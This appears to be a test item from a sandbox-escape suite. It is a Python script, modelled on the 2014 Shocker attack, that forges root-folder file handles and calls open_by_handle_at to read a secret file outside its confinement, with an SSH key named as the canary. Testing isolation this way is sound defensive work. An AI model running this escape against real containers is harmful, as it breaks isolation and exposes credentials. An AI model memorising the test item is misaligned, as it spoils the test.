# id: fs-open-by-handle
# group: fs-read
# aim: Forge a file handle of the root folder and walk down from it to the secret.
# judge: outside
# canary: ssh-key
# tier-l: enforced
# source: Shocker, 2014

import struct


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("kind", ctypes.c_int), ("handle", ctypes.c_ubyte * 128)]


def descend(folder, how):
    try:
        print(how, os.read(os.open(P["secret"].lstrip("/"), os.O_RDONLY, dir_fd=folder), 4096).decode())
    except OSError as error:
        print(how, error)


for place in (".", "/", "/etc/hosts", "/usr"):
    try:
        mount = os.open(place, os.O_RDONLY)
    except OSError:
        continue
    # ext2 to ext4: inode 2 of generation 0 is the root; XFS: inode 128.
    for inode in (2, 128):
        handle = Handle(8, 1, (ctypes.c_ubyte * 128)(*struct.pack("II", inode, 0)))
        folder, error = call("open_by_handle_at", mount, ctypes.byref(handle), os.O_RDONLY | os.O_DIRECTORY)
        print(place, inode, folder, error)
        if folder >= 0:
            descend(folder, "by a forged handle:")
    handle, number = Handle(128), ctypes.c_int()
    result, error = call("name_to_handle_at", mount, ctypes.c_char_p(b""), ctypes.byref(handle),
                         ctypes.byref(number), 0x1000)
    if result == 0:
        folder, error = call("open_by_handle_at", mount, ctypes.byref(handle), os.O_RDONLY)
        print("a true handle:", folder, error)
